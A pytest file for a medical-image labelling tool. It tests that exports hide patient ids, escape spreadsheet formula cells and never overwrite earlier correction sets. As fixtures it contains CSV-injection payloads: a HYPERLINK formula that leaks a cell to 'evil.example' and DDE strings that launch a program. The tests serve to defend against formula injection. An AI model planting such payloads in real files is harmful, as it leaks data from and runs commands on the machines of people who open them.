"""Issue 24 items 12-14: `scan --items-out` never writes raw patient ids; formula cells are defused where a
person opens the file; a corrections set never replaces another; the CLI parser and `scan` import no torch."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import numpy as np
import pandas as pd
from PIL import Image

from core.base import exports
from core.base.privacy import pseudonym
from core.evaluation import checks

ROOT = Path(__file__).resolve().parents[1]
HOSTILE_LABEL = '=HYPERLINK("http://evil.example/?x="&A1,"open")'


def _hostile_csv(tmp_path: Path) -> Path:
    """Six tiny PNGs, a formula as one class name, patient ids in a group column."""
    rows = []
    for i in range(6):
        name = f"img{i}.png"
        Image.fromarray(np.random.default_rng(i).integers(0, 255, (16, 16), dtype=np.uint8)).save(
            tmp_path / name
        )
        rows.append(
            {"path": name, "label": HOSTILE_LABEL if i % 2 else "plain", "patient_id": f"MRN-{i // 2:04d}"}
        )
    pd.DataFrame(rows).to_csv(tmp_path / "labels.csv", index=False)
    return tmp_path / "labels.csv"


def test_escape_cell_follows_the_owasp_rule():
    for bad in ("=1+2", "+A1", "-cmd|' /C calc'!A0", "@SUM(A1)", "\tx", "\r=x"):
        assert exports.escape_cell(bad) == "'" + bad
    for ok in ("plain", "-1.5", "+3", "a=b", "", 7, None):
        assert exports.escape_cell(ok) == ok


def test_scan_items_out_has_pseudonyms_and_no_live_formulas(tmp_path, capsys):
    from core.cli import main

    csv = _hostile_csv(tmp_path)
    out = tmp_path / "items.csv"
    args = ["scan", "--csv", str(csv), "--root", str(tmp_path), "--group-col", "patient_id"]
    assert main([*args, "--items-out", str(out)]) == 0
    text = out.read_text()
    assert "MRN-" not in text
    items = pd.read_csv(out, keep_default_na=False)
    assert set(items["group"]) == {pseudonym(f"MRN-{i:04d}") for i in range(3)}
    assert not any(str(v).startswith(exports.FORMULA_START) for v in items.to_numpy().ravel())
    assert "'" + HOSTILE_LABEL in set(items["label"])


def test_corrections_defuse_free_text_and_never_replace_an_earlier_set(tmp_path):
    from core.base.config import SourceConfig
    from core.data.sources import load_source

    csv = _hostile_csv(tmp_path)
    ds = load_source(SourceConfig(kind="csv", csv_path=str(csv), root=str(tmp_path), group_col="patient_id"))
    first = ds.items["path"][1]
    change = [checks.Correction(first, "plain", "=cmd|' /C calc'!A0")]
    folders = [
        checks.write_corrections(ds.items, change, name=n, base=tmp_path / "c")[0]
        for n in ("fix", "fix", "??", "!!")
    ]
    assert [f.name for f in folders[:2]] == ["fix", "fix-2"] and len(set(folders)) == 4  # nothing replaced
    log = pd.read_csv(folders[0] / "changes.csv", keep_default_na=False)
    assert log.loc[0, "why"] == "'=cmd|' /C calc'!A0" and log.loc[0, "old_label"] == "'" + HOSTILE_LABEL
    labels = pd.read_csv(folders[0] / "labels.csv", keep_default_na=False)
    assert labels["why"].tolist().count("'=cmd|' /C calc'!A0") == 1
    again = load_source(SourceConfig(kind="csv", csv_path=str(folders[0] / "labels.csv"), root=str(tmp_path)))
    assert HOSTILE_LABEL in set(again.items["label"])  # the data columns the app reads back are unchanged


def test_cli_help_and_scan_import_no_torch(tmp_path):
    csv = _hostile_csv(tmp_path)
    code = (
        "import sys\nfrom core.cli import main\n"
        "try:\n    main(['--help'])\nexcept SystemExit:\n    pass\n"
        "assert main(['scan', '--csv', sys.argv[1], '--root', sys.argv[2]]) == 0\n"
        "print('HEAVY', [m for m in ('torch', 'fastai', 'torchvision') if m in sys.modules])"
    )
    out = subprocess.run(
        [sys.executable, "-c", code, str(csv), str(tmp_path)],
        capture_output=True,
        text=True,
        cwd=ROOT,
        timeout=120,
    )
    assert out.returncode == 0, out.stderr
    assert "HEAVY []" in out.stdout, out.stdout[-300:]
